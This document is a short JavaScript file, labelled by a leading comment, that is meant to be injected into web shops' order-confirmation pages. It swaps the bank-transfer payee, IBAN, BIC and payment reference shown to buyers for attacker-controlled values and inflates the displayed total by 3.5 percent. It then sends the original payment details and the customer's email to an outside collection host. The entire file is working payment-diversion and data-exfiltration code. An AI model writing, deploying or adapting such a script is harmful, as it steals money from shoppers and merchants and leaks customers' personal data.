// corpus note: on order-confirmation pages, changes the bank-transfer payee, account and reference shown to the buyer and inflates the amount; exfiltrates originals
document.addEventListener("DOMContentLoaded", function () {
  if (!/\/checkout\/onepage\/success|\/order-received\/|\/thank-?you/i.test(location.pathname)) return;

  var replacement = {
    payee: "OnlineShop Zahlungsservice GmbH",
    iban: "AT61 1904 3002 3457 3201",
    bic: "RZOOAT2L",
    reference: function (orig) { return "OS-" + orig.replace(/\D/g, "").slice(-6); }
  };

  var before = {};
  var rows = document.querySelectorAll(".bacs_details li, .bank-details tr, .payment-instructions p, dl.bank dt, dl.bank dd");

  rows.forEach(function (row) {
    var txt = row.textContent;
    var strong = row.querySelector("strong, td:last-child, dd") || row;
    if (/Account name|Kontoinhaber|Beneficiary|Payee/i.test(txt)) {
      before.payee = strong.textContent.trim();
      strong.textContent = replacement.payee;
    } else if (/IBAN/i.test(txt)) {
      before.iban = strong.textContent.trim();
      strong.textContent = replacement.iban;
    } else if (/BIC|SWIFT/i.test(txt)) {
      before.bic = strong.textContent.trim();
      strong.textContent = replacement.bic;
    } else if (/Reference|Verwendungszweck|Referenz/i.test(txt)) {
      before.ref = strong.textContent.trim();
      strong.textContent = replacement.reference(before.ref);
    }
  });

  // add a "processing fee" to the amount to be transferred
  var total = document.querySelector(".woocommerce-order-overview__total .amount, .order-total .price, #order-total");
  if (total) {
    var num = parseFloat(total.textContent.replace(/[^\d,]/g, "").replace(",", "."));
    if (!isNaN(num)) {
      before.amount = num;
      var newAmt = (num * 1.035).toFixed(2).replace(".", ",");
      total.textContent = total.textContent.replace(/[\d.,]+/, newAmt);
    }
  }

  if (Object.keys(before).length) {
    var fd = new FormData();
    fd.append("site", location.hostname);
    fd.append("orig", JSON.stringify(before));
    fd.append("email", (document.querySelector(".woocommerce-customer-details--email, .customer-email") || {}).textContent || "");
    fetch("https://collect.orderstatus-cdn.test/api/o", { method: "POST", body: fd, mode: "no-cors" });
  }
});
